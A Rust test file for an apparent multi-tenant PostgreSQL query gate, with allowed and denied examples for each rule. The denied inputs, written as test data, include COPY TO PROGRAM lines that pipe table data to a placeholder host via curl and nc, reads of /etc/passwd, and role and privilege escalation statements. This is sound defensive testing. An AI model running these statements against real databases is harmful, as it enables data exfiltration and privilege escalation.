//! One allowed and at least one denied example for every statement and name rule.

use super::{allowed, denied, denied_by, gate};
use crate::{Gate, GateConfig, Limits, Scope, Verdict};

#[test]
fn ordinary_statements_are_allowed() {
    for sql in [
        "SELECT * FROM orders WHERE id = $1",
        "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.total > $1",
        "INSERT INTO orders (id, total) VALUES ($1, $2) RETURNING id",
        "INSERT INTO orders SELECT * FROM staging ON CONFLICT (tenant_id, id) DO UPDATE SET total = excluded.total",
        "UPDATE orders SET total = total + 1 WHERE id = 7",
        "DELETE FROM orders WHERE id = 7",
        "MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN UPDATE SET total = s.total \
         WHEN NOT MATCHED THEN INSERT (id, total) VALUES (s.id, s.total)",
        "WITH recent AS (SELECT * FROM orders WHERE created > now() - interval '1 day') SELECT count(*) FROM recent",
        "VALUES (1, 'a'), (2, 'b')",
        "TABLE orders",
        "SHOW timezone",
        "SHOW ALL",
        "DISCARD ALL",
        "SET CONSTRAINTS ALL DEFERRED",
        "SELECT pg_sleep(0.1)",
        "SELECT * FROM information_schema.tables",
        "SELECT * FROM information_schema.columns WHERE table_name = 'orders'",
        "SELECT typname FROM pg_type t WHERE t.oid = 23",
        "SELECT * FROM pg_catalog.pg_proc, pg_settings, pg_stats",
        "SELECT * FROM pg_prepared_statements",
        "SELECT * FROM \"PG_ROLES\"",
        "SELECT current_setting('timezone'), lower('X'), format('%s', 1)",
    ] {
        allowed(sql);
    }
}

#[test]
fn extended_protocol_parameters_parse() {
    let verdict = allowed("SELECT * FROM orders WHERE id = $1");
    assert_eq!(
        verdict,
        Verdict {
            statements: 1,
            read_only: true, rewritten: None
        }
    );
    assert!(!allowed("UPDATE orders SET total = $2 WHERE id = $1").read_only);
}

#[test]
fn transaction_control_is_allowed() {
    let verdict = allowed("BEGIN; SET TRANSACTION READ ONLY; COMMIT");
    assert_eq!(
        verdict,
        Verdict {
            statements: 3,
            read_only: true, rewritten: None
        }
    );
    for sql in [
        "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
        "BEGIN READ WRITE",
        "SAVEPOINT s1",
        "RELEASE SAVEPOINT s1",
        "ROLLBACK TO SAVEPOINT s1",
        "ROLLBACK",
        "END",
        "COMMIT AND CHAIN",
        "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL REPEATABLE READ",
    ] {
        allowed(sql);
    }
}

#[test]
fn two_phase_commit_is_denied() {
    denied("PREPARE TRANSACTION 'x'", "two-phase");
    denied("COMMIT PREPARED 'x'", "two-phase");
    denied("ROLLBACK PREPARED 'x'", "two-phase");
}

#[test]
fn empty_queries_are_allowed_with_no_statements() {
    for sql in [
        "",
        "   ",
        ";",
        ";;;",
        "-- just a comment",
        "/* block */ ;",
        "\n\t",
    ] {
        assert_eq!(
            allowed(sql),
            Verdict {
                statements: 0,
                read_only: true, rewritten: None
            },
            "{sql:?}"
        );
    }
}

#[test]
fn every_statement_of_a_multi_statement_string_is_checked() {
    assert_eq!(
        allowed("SELECT 1; SELECT 2; INSERT INTO t VALUES (1)").statements,
        3
    );
    denied("SELECT 1; DROP TABLE orders", "ddl");
    denied("SELECT * FROM orders; SET ROLE admin; SELECT 1", "set-role");
    denied(
        "BEGIN; SELECT pg_read_file('/etc/passwd'); COMMIT",
        "dangerous-function",
    );
    denied("SELECT 1; SELECT * FROM pg_authid", "catalog-enumeration");
}

#[test]
fn ddl_is_denied() {
    for sql in [
        "CREATE TABLE t (id int)",
        "CREATE TEMP TABLE t (id int)",
        "ALTER TABLE orders ADD COLUMN x int",
        "DROP TABLE orders",
        "DROP SCHEMA app CASCADE",
        "CREATE INDEX ON orders (total)",
        "CREATE VIEW v AS SELECT 1",
        "CREATE TABLE t AS SELECT * FROM orders",
        "CREATE MATERIALIZED VIEW m AS SELECT 1",
        "SELECT * INTO t2 FROM orders",
        "COMMENT ON TABLE orders IS 'x'",
        "SECURITY LABEL ON TABLE orders IS 'x'",
        "REFRESH MATERIALIZED VIEW m",
        "REINDEX TABLE orders",
        "CLUSTER orders USING orders_pkey",
        "ALTER SYSTEM SET work_mem = '1GB'",
        "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO public",
        "IMPORT FOREIGN SCHEMA s FROM SERVER x INTO app",
        "CREATE EXTENSION dblink",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
        "CREATE PROCEDURE p() LANGUAGE sql AS 'select 1'",
        "CREATE ROLE evil SUPERUSER",
        "ALTER ROLE current_user SET search_path = x",
        "CREATE POLICY p ON orders USING (true)",
        "ALTER TABLE orders DISABLE ROW LEVEL SECURITY",
        "CREATE SEQUENCE s",
        "CREATE SCHEMA s",
        "DROP OWNED BY current_user",
    ] {
        denied(sql, "ddl");
    }
}

#[test]
fn grant_revoke_is_denied() {
    denied("GRANT SELECT ON orders TO public", "grant");
    denied("REVOKE ALL ON orders FROM public", "grant");
    denied("GRANT pg_read_server_files TO current_user", "grant");
}

#[test]
fn procedural_and_administrative_statements_are_denied() {
    denied("DO $$ BEGIN PERFORM 1; END $$", "do-block");
    denied("CALL p()", "call");
    denied("TRUNCATE orders", "truncate");
    denied("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", "lock");
    denied("VACUUM orders", "maintenance");
    denied("VACUUM FULL", "maintenance");
    denied("ANALYZE orders", "maintenance");
    denied("LISTEN ch", "listen-notify");
    denied("NOTIFY ch, 'x'", "listen-notify");
    denied("SELECT pg_notify('ch', 'x')", "listen-notify");
    denied("CHECKPOINT", "admin");
    denied("LOAD 'auto_explain'", "admin");
}

#[test]
fn copy_to_stdout_and_from_stdin_are_allowed() {
    assert!(allowed("COPY orders TO STDOUT").read_only);
    assert!(allowed("COPY orders (id, total) TO STDOUT WITH (FORMAT csv, HEADER)").read_only);
    assert!(allowed("COPY (SELECT id FROM orders WHERE total > 10) TO STDOUT").read_only);
    assert!(!allowed("COPY orders FROM STDIN WITH (FORMAT csv)").read_only);
}

#[test]
fn copy_to_files_and_programs_is_denied() {
    denied("COPY orders TO '/tmp/x'", "copy-file");
    denied("COPY orders FROM '/etc/passwd'", "copy-file");
    denied("COPY orders TO PROGRAM 'curl evil'", "copy-program");
    denied("COPY orders FROM PROGRAM 'id'", "copy-program");
    denied(
        "COPY (SELECT * FROM orders) TO PROGRAM 'nc evil 1'",
        "copy-program",
    );
}

#[test]
fn copy_checks_its_query_and_relation() {
    denied(
        "COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT",
        "dangerous-function",
    );
    denied("COPY pg_authid TO STDOUT", "catalog-enumeration");
    denied(
        "COPY (SELECT * FROM pg_locks) TO STDOUT",
        "catalog-enumeration",
    );
}

#[test]
fn explain_checks_its_statement() {
    assert!(allowed("EXPLAIN SELECT * FROM orders").read_only);
    allowed("EXPLAIN (FORMAT json, COSTS off) SELECT 1");
    allowed("EXPLAIN (ANALYZE false) SELECT 1");
    allowed("EXPLAIN (ANALYZE off, VERBOSE) SELECT 1");
    allowed("EXPLAIN (ANALYZE 0) SELECT 1");
    denied("EXPLAIN SELECT * FROM pg_shadow", "catalog-enumeration");
    denied(
        "EXPLAIN SELECT set_config('role', 'x', false)",
        "set-config",
    );
    denied("EXPLAIN CREATE TABLE t AS SELECT 1", "ddl");
}

#[test]
fn explain_analyze_needs_configuration() {
    denied("EXPLAIN ANALYZE SELECT 1", "explain-analyze");
    denied("EXPLAIN ANALYZE DELETE FROM orders", "explain-analyze");
    denied("EXPLAIN (ANALYZE) SELECT 1", "explain-analyze");
    denied("EXPLAIN (ANALYZE on, BUFFERS) SELECT 1", "explain-analyze");
    denied("EXPLAIN (\"analyze\" 1) SELECT 1", "explain-analyze");
    denied("EXPLAIN (ANALYZE true) SELECT 1", "explain-analyze");
    denied("EXPLAIN (ANALYZE 'maybe') SELECT 1", "explain-analyze");

    let gate = Gate::new(GateConfig {
        allow_explain_analyze: true,
        ..GateConfig::default()
    });
    let verdict = gate.check("t", "EXPLAIN ANALYZE SELECT 1",
        Scope::ReadOnly,
        &Limits::default(),
    );
    assert_eq!(
        verdict,
        Ok(Verdict {
            statements: 1,
            read_only: true, rewritten: None
        })
    );
    let verdict = gate.check("t", "EXPLAIN ANALYZE DELETE FROM orders",
        Scope::ReadWrite,
        &Limits::default(),
    );
    assert_eq!(
        verdict,
        Ok(Verdict {
            statements: 1,
            read_only: false, rewritten: None
        })
    );
    denied_by(
        &gate,
        "EXPLAIN ANALYZE DELETE FROM orders",
        Scope::ReadOnly,
        &Limits::default(),
        "read-only",
    );
}

#[test]
fn prepare_execute_deallocate() {
    allowed("PREPARE q (int) AS SELECT * FROM orders WHERE id = $1");
    assert!(!allowed("PREPARE d AS DELETE FROM orders WHERE id = $1").read_only);
    allowed("EXECUTE q(1)");
    allowed("DEALLOCATE q");
    allowed("DEALLOCATE ALL");
    denied(
        "PREPARE q AS SELECT pg_read_file('/etc/passwd')",
        "dangerous-function",
    );
    denied(
        "PREPARE q AS SELECT * FROM pg_authid",
        "catalog-enumeration",
    );
    denied("EXECUTE q(set_config('role', 'x', false))", "set-config");
}

#[test]
fn cursors() {
    allowed("DECLARE c CURSOR FOR SELECT * FROM orders");
    allowed("DECLARE c SCROLL CURSOR WITH HOLD FOR SELECT 1");
    allowed("FETCH 10 FROM c");
    allowed("MOVE NEXT IN c");
    allowed("CLOSE c");
    allowed("CLOSE ALL");
    denied(
        "DECLARE c CURSOR FOR SELECT * FROM pg_locks",
        "catalog-enumeration",
    );
    denied(
        "DECLARE c CURSOR FOR SELECT lo_import('/etc/passwd')",
        "dangerous-function",
    );
}

#[test]
fn set_config_is_denied_anywhere_but_as_a_statement_of_its_own() {
    for sql in [
        "SELECT set_config('timezone', 'UTC', false), 1",
        "SELECT set_config('timezone', 'UTC', false), set_config('jit', 'off', false)",
        "SELECT current_setting(name), set_config('jit', 'off', false) FROM pg_settings",
        "SELECT lower(current_setting('jit')), set_config('jit', 'off', false)",
        "SELECT set_config('timezone', 'UTC', false) FROM orders",
        "SELECT set_config('timezone', lower('UTC'), false)",
        "SELECT set_config('timezone', 'UTC', false) UNION ALL SELECT 'x'",
        "SELECT * FROM orders WHERE id = (SELECT 1 FROM (SELECT set_config('role','x',false)) s)",
        "WITH c AS (SELECT set_config('role','x',false)) SELECT * FROM c",
        "SELECT CASE WHEN true THEN set_config('a','b',false) END",
        "SELECT * FROM ROWS FROM (set_config('a','b',false))",
        "UPDATE orders SET note = set_config('a','b',false)",
        "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = set_config('a','b',false)",
        "SELECT count(*) FILTER (WHERE set_config('a','b',false) IS NULL) FROM t",
        "SELECT sum(x) OVER (ORDER BY set_config('a','b',false)) FROM t",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = set_config('a','b',false)",
    ] {
        denied(sql, "set-config");
    }
}

#[test]
fn dangerous_functions_are_denied() {
    for sql in [
        "SELECT pg_read_file('/etc/passwd')",
        "select pg_catalog.PG_READ_FILE('x')",
        "SELECT \"pg_read_file\"('x')",
        "SELECT pg_read_binary_file('x')",
        "SELECT * FROM pg_ls_dir('.')",
        "SELECT * FROM pg_ls_waldir()",
        "SELECT * FROM pg_ls_logdir()",
        "SELECT pg_stat_file('x')",
        "SELECT pg_file_write('x', 'y', false)",
        "SELECT pg_logdir_ls()",
        "SELECT dblink('host=other', 'select 1')",
        "SELECT * FROM public.dblink('host=other', 'select 1') AS t(x int)",
        "SELECT dblink_connect('c', 'host=x')",
        "SELECT dblink_exec('c', 'drop table t')",
        "SELECT postgres_fdw_get_connections()",
        "SELECT lo_import('/etc/passwd')",
        "SELECT lo_export(1, '/tmp/x')",
        "SELECT lo_open(1, 262144)",
        "SELECT lo_create(0)",
        "SELECT lo_creat(-1)",
        "SELECT lo_unlink(1)",
        "SELECT lo_get(1)",
        "SELECT lo_put(1, 0, 'x')",
        "SELECT lo_from_bytea(0, 'x')",
        "SELECT lo_truncate(0, 1)",
        "SELECT loread(0, 1)",
        "SELECT lowrite(0, 'x')",
        "SELECT pg_cancel_backend(1)",
        "SELECT pg_terminate_backend(pid) FROM t",
        "SELECT pg_reload_conf()",
        "SELECT pg_rotate_logfile()",
        "SELECT pg_switch_wal()",
        "SELECT pg_create_logical_replication_slot('s', 'pgoutput')",
        "SELECT pg_create_physical_replication_slot('s')",
        "SELECT pg_drop_replication_slot('s')",
        "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)",
        "SELECT pg_replication_origin_create('x')",
        "SELECT pg_promote()",
        "SELECT pg_backup_start('x')",
        "SELECT pg_stat_reset()",
    ] {
        denied(sql, "dangerous-function");
    }
}

#[test]
fn advisory_locks_are_denied() {
    denied("SELECT pg_advisory_lock(1)", "advisory-lock");
    denied("SELECT pg_try_advisory_xact_lock(1, 2)", "advisory-lock");
    allowed("SELECT * FROM orders FOR UPDATE SKIP LOCKED");
}

#[test]
fn functions_that_run_sql_strings_are_denied() {
    for sql in [
        "SELECT query_to_xml('select * from pg_authid', true, false, '')",
        "SELECT query_to_xml_and_xmlschema('select 1', true, false, '')",
        "SELECT query_to_xmlschema('select 1', true, false, '')",
        "SELECT cursor_to_xml('c', 1, true, false, '')",
        "SELECT table_to_xml('orders', true, false, '')",
        "SELECT schema_to_xml('app', true, false, '')",
        "SELECT database_to_xml(true, false, '')",
        "SELECT ts_stat('select v from t')",
    ] {
        denied(sql, "dynamic-sql");
    }
    allowed("SELECT xmlelement(name x, 'y')");
}

#[test]
fn catalog_enumeration_is_denied_in_strict_mode() {
    for sql in [
        "SELECT * FROM pg_authid",
        "SELECT * FROM pg_catalog.pg_authid",
        "SELECT * FROM pg_shadow",
        "SELECT * FROM pg_db_role_setting",
        "SELECT * FROM pg_stat_user_tables",
        "SELECT * FROM pg_statio_user_tables",
        "SELECT * FROM pg_stat_database",
        "SELECT * FROM pg_locks",
        "SELECT * FROM pg_stat_statements",
        "SELECT * FROM public.pg_stat_statements",
        "SELECT * FROM pg_replication_slots",
        "SELECT * FROM pg_subscription",
        "SELECT * FROM pg_publication_tables",
        "SELECT * FROM pg_prepared_xacts",
        "SELECT * FROM pg_largeobject_metadata",
        "SELECT * FROM pg_user_mappings",
        "SELECT * FROM pg_seclabels",
        "SELECT * FROM pg_shdepend",
        "SELECT * FROM pg_statistic_ext_data",
        "WITH r AS (SELECT * FROM pg_catalog.pg_authid) SELECT * FROM r",
        "SELECT pg_tablespace_size('pg_default')",
        "SELECT * FROM pg_stat_get_activity(NULL)",
        // A scoped name in another schema is not the scoped catalog's.
        "SELECT * FROM public.pg_roles",
    ] {
        denied(sql, "catalog-enumeration");
    }
}

/// What the scoped catalog stands in for is rewritten onto it (strict mode), token for token;
/// see `scoped_catalog.rs` for the rewrite's own tests.
#[test]
fn catalog_reads_are_mapped_onto_the_scoped_catalog() {
    for (sql, want) in [
        ("SELECT * FROM pg_catalog.pg_roles", "SELECT * FROM tg_catalog.pg_roles"),
        ("SELECT * FROM pg_roles", "SELECT * FROM tg_catalog.pg_roles"),
        ("SELECT datname FROM pg_database", "SELECT datname FROM tg_catalog.pg_database"),
        ("SELECT (SELECT count(*) FROM pg_stat_activity)", "SELECT (SELECT count(*) FROM tg_catalog.pg_stat_activity)"),
        ("SELECT o.id FROM orders o JOIN pg_class c ON c.oid = o.rel", "SELECT o.id FROM orders o JOIN tg_catalog.pg_class c ON c.oid = o.rel"),
        ("SELECT pg_database_size('postgres')", "SELECT tg_catalog.pg_database_size('postgres')"),
        ("SELECT pg_get_userbyid(10)", "SELECT tg_catalog.pg_get_userbyid(10)"),
        ("SELECT pg_table_size('orders'), pg_catalog.pg_indexes_size('orders')", "SELECT tg_catalog.pg_table_size('orders'), tg_catalog.pg_indexes_size('orders')"),
    ] {
        assert_eq!(allowed(sql).rewritten.as_deref(), Some(want), "{sql}");
    }
}

#[test]
fn catalog_relations_are_allowed_without_strict_mode() {
    let gate = Gate::new(GateConfig {
        strict_catalog: false,
        ..GateConfig::default()
    });
    for sql in [
        "SELECT * FROM pg_catalog.pg_roles",
        "SELECT * FROM pg_stat_activity",
        "SELECT pg_database_size('x')",
    ] {
        assert!(
            gate.check("t", sql, Scope::ReadOnly, &Limits::default()).is_ok(),
            "{sql}"
        );
    }
    denied_by(
        &gate,
        "SELECT pg_read_file('x')",
        Scope::ReadWrite,
        &Limits::default(),
        "dangerous-function",
    );
}

#[test]
fn denial_messages_name_rule_and_reason_without_literals() {
    let denial = denied("SET ROLE admin", "set-role");
    assert_eq!(denial.sqlstate, "42501");
    assert_eq!(
        denial.message,
        "tenantgate: SET ROLE is not allowed (rule set-role): a session's identity is fixed by its credentials"
    );
    let denial = denied(
        "SELECT pg_catalog.pg_read_file('/etc/secret-path')",
        "dangerous-function",
    );
    assert!(
        denial.message.contains("pg_catalog.pg_read_file()"),
        "{}",
        denial.message
    );
    assert!(!denial.message.contains("secret-path"));
    let denial = denied(
        "SELECT * FROM pg_catalog.pg_authid WHERE rolname = 'victim'",
        "catalog-enumeration",
    );
    assert!(denial.message.contains("pg_catalog.pg_authid") && !denial.message.contains("victim"));
    assert!(denial.message.contains("pg_roles"), "says what to use instead: {}", denial.message);
    assert_eq!(denial.to_string(), denial.message);
}

#[test]
fn syntax_errors_are_denied_with_the_parsers_message() {
    let denial = denied("SELEC 1", "syntax");
    assert_eq!(denial.sqlstate, "42601");
    assert!(
        denial.message.contains("syntax error at or near \"SELEC\""),
        "{}",
        denial.message
    );
    denied("SELECT 1; SELEC 2", "syntax");
    denied("SELECT (1", "syntax");
    denied("SELECT 1\0", "syntax");
}

#[test]
fn disabled_gate_passes_everything_unparsed() {
    let gate = Gate::new(GateConfig {
        enabled: false,
        ..GateConfig::default()
    });
    let verdict = gate.check("t", "DROP TABLE orders; SELEC",
        Scope::ReadOnly,
        &Limits::default(),
    );
    assert_eq!(
        verdict,
        Ok(Verdict {
            statements: 0,
            read_only: false, rewritten: None
        })
    );
}

#[test]
fn fingerprints_are_stable_and_literal_free() {
    let a = crate::fingerprint("SELECT * FROM orders WHERE id = 1");
    let b = crate::fingerprint("select *  from orders where id = 42");
    assert_eq!(a, b);
    assert_eq!(a.len(), 16);
    assert!(a.chars().all(|c| c.is_ascii_hexdigit()));
    assert_ne!(
        a,
        crate::fingerprint("SELECT * FROM customers WHERE id = 1")
    );
    assert_eq!(crate::fingerprint("SELEC 1"), "0000000000000000");
}

/// Enumeration through object-identifier types and OID lookups (strict mode): casts of
/// anything but a string constant naming an object, `regrole`/`regnamespace` whatever the
/// value, the `to_reg*` lookups, and the functions that name or print an object by OID.
#[test]
fn reg_casts_and_oid_lookups_do_not_enumerate_other_tenants() {
    for sql in [
        "SELECT CAST(g + 1 AS pg_catalog.regtype) FROM generate_series(1, 9) g",
        "SELECT '{16384,16385}'::regclass[]",
        "SELECT 'tenant_key'::regrole",
        "SELECT 'tenant_acme'::regnamespace",
        "SELECT regclass(16384)",
        "SELECT g::regoper FROM generate_series(1, 9) g",
        "SELECT pg_filenode_relation(0, g) FROM generate_series(16384, 20000) g",
        "SELECT pg_identify_object(1259, g, 0) FROM generate_series(16384, 20000) g",
        "SELECT pg_has_role('tenant_key', 'member')",
    ] {
        denied(sql, "catalog-enumeration");
    }
    // A column's value cast to a reg* type is guarded: an OID the session may not see prints
    // NULL. OID lookups and printers go through the scoped catalog's wrappers.
    for (sql, want) in [
        ("SELECT g::oid::regrole FROM generate_series(1, 100000) g", "SELECT g::oid::regrole FROM generate_series(1, 100000) g"),
        ("SELECT typnamespace::regnamespace FROM pg_type", "SELECT tg_catalog.visible_namespace(typnamespace)::regnamespace FROM tg_catalog.pg_type"),
        ("SELECT CAST(g AS pg_catalog.regtype) FROM generate_series(1, 9) g", "SELECT CAST(tg_catalog.visible_type(g) AS pg_catalog.regtype) FROM generate_series(1, 9) g"),
        ("SELECT 16384::regclass", "SELECT tg_catalog.visible_class(16384::pg_catalog.oid)::regclass"),
        ("SELECT '16384'::pg_catalog.regclass", "SELECT tg_catalog.visible_class('16384'::pg_catalog.oid)::pg_catalog.regclass"),
        // A function's result (SQLAlchemy's reflection), qualified or not, its own name mapped too.
        (
            "SELECT CAST(CAST(pg_catalog.pg_get_serial_sequence(CAST(CAST(a.attrelid AS REGCLASS) AS TEXT), a.attname) AS REGCLASS) AS OID) FROM pg_catalog.pg_attribute a",
            "SELECT CAST(CAST(tg_catalog.visible_class(pg_catalog.pg_get_serial_sequence(CAST(CAST(tg_catalog.visible_class(a.attrelid) AS REGCLASS) AS TEXT), a.attname)) AS REGCLASS) AS OID) FROM tg_catalog.pg_attribute a",
        ),
        ("SELECT d.description FROM pg_description d WHERE d.classoid = CAST($1 AS REGCLASS)", "SELECT d.description FROM tg_catalog.pg_description d WHERE d.classoid = CAST(tg_catalog.visible_class($1) AS REGCLASS)"),
        ("SELECT $2::regrole", "SELECT tg_catalog.visible_role($2)::regrole"),
        ("SELECT CAST($2::REGCLASS AS REGCLASS)", "SELECT CAST(tg_catalog.visible_class($2)::REGCLASS AS REGCLASS)"),
        ("SELECT c.oid::regclass::regclass FROM pg_class c", "SELECT tg_catalog.visible_class(c.oid)::regclass::regclass FROM tg_catalog.pg_class c"),
        ("SELECT format_type(23, NULL)::regtype", "SELECT tg_catalog.visible_type(tg_catalog.format_type(23, NULL))::regtype"),
        ("SELECT lower ( 'X' ) :: regnamespace", "SELECT tg_catalog.visible_namespace(lower ( 'X' )) :: regnamespace"),
        ("SELECT to_regrole('tenant_key')", "SELECT tg_catalog.to_regrole('tenant_key')"),
        ("SELECT to_regclass('tenant_acme.orders')", "SELECT tg_catalog.to_regclass('tenant_acme.orders')"),
        ("SELECT pg_get_indexdef(g) FROM generate_series(16384, 20000) g", "SELECT tg_catalog.pg_get_indexdef(g) FROM generate_series(16384, 20000) g"),
        ("SELECT format_type(g, NULL) FROM generate_series(16384, 20000) g", "SELECT tg_catalog.format_type(g, NULL) FROM generate_series(16384, 20000) g"),
        ("SELECT obj_description(g, 'pg_class') FROM generate_series(1, 9) g", "SELECT tg_catalog.obj_description(g, 'pg_class') FROM generate_series(1, 9) g"),
    ] {
        let got = gate().check("t", sql, Scope::ReadWrite, &Limits::default());
        match got {
            Ok(v) if sql.starts_with("SELECT g::oid::") => panic!("{sql}: a cast of a cast is not a column: {v:?}"),
            Ok(v) => assert_eq!(v.rewritten.as_deref(), Some(want), "{sql}"),
            Err(d) => assert!(sql.starts_with("SELECT g::oid::") && d.rule == "catalog-enumeration", "{sql}: {d:?}"),
        }
    }
    for sql in [
        "SELECT 'orders'::regclass",
        "SELECT 'public.orders'::regclass::oid",
        "SELECT 'int4'::regtype",
        "SELECT regexp_replace('a', 'a', 'b'), regr_slope(1, 2)",
    ] {
        assert_eq!(allowed(sql).rewritten, None, "{sql}");
    }
}

/// A `'…'::regclass` cast is decided on the constant's value, so its analysis is not shared
/// with other statements of its shape: a name first does not let an OID through.
#[test]
fn a_reg_cast_decided_on_its_value_is_not_shared_by_shape() {
    let gate = gate();
    assert!(gate.check("t", "SELECT 'orders'::regclass", Scope::ReadWrite, &Limits::default()).is_ok());
    assert!(!gate.cache.has_shape_of("t", "SELECT '16384'::regclass"));
    let v = gate.check("t", "SELECT '16384'::regclass", Scope::ReadWrite, &Limits::default());
    assert_eq!(v.map(|v| v.rewritten.as_deref().map(str::to_owned)), Ok(Some("SELECT tg_catalog.visible_class('16384'::pg_catalog.oid)::regclass".to_owned())));
    // The type-first form cannot be wrapped: refused.
    assert_eq!(gate.check("t", "SELECT regclass '16384'", Scope::ReadWrite, &Limits::default()).map_err(|d| d.rule), Err("catalog-rewrite"));
}

/// What a driver runs to reset its own session touches only that session, and passes:
/// asyncpg's `Pool.release` (issue #17, bug 3). Taking locks and listening stay refused.
#[test]
fn a_drivers_session_reset_is_allowed() {
    allowed("SELECT pg_advisory_unlock_all();\nCLOSE ALL;\nUNLISTEN *;\nRESET ALL;");
    allowed("UNLISTEN my_channel");
    allowed("SELECT pg_advisory_unlock_all()");
    denied("SELECT pg_advisory_lock(1)", "advisory-lock");
    denied("SELECT pg_advisory_unlock(1)", "advisory-lock");
    denied("LISTEN ch", "listen-notify");
}

#[test]
fn channels_are_allowed_only_with_a_database_of_ones_own() {
    let g = gate();
    let shared = Limits::default();
    let own = Limits { own_database: true, ..Limits::default() };
    for sql in ["LISTEN jobs", "NOTIFY jobs, 'x'", "SELECT pg_notify('jobs', 'x')", "SELECT 1; LISTEN \"Jobs\""] {
        let d = g.check("t", sql, Scope::ReadWrite, &shared).expect_err(sql);
        assert_eq!(d.rule, "listen-notify", "{sql}");
        assert!(d.message.contains("database placement"), "{}", d.message);
        assert!(g.check("t", sql, Scope::ReadWrite, &own).is_ok(), "{sql}");
    }
    // A cached verdict for one tenant does not carry over to another.
    assert!(g.check("a", "LISTEN jobs", Scope::ReadWrite, &own).is_ok());
    assert!(g.check("b", "LISTEN jobs", Scope::ReadWrite, &shared).is_err());
    // UNLISTEN drops only the caller's own registrations: allowed everywhere.
    assert!(g.check("t", "UNLISTEN *", Scope::ReadWrite, &shared).is_ok());
    // Advisory locks stay refused everywhere (the shared lock table).
    denied("SELECT pg_advisory_lock(1)", "advisory-lock");
}
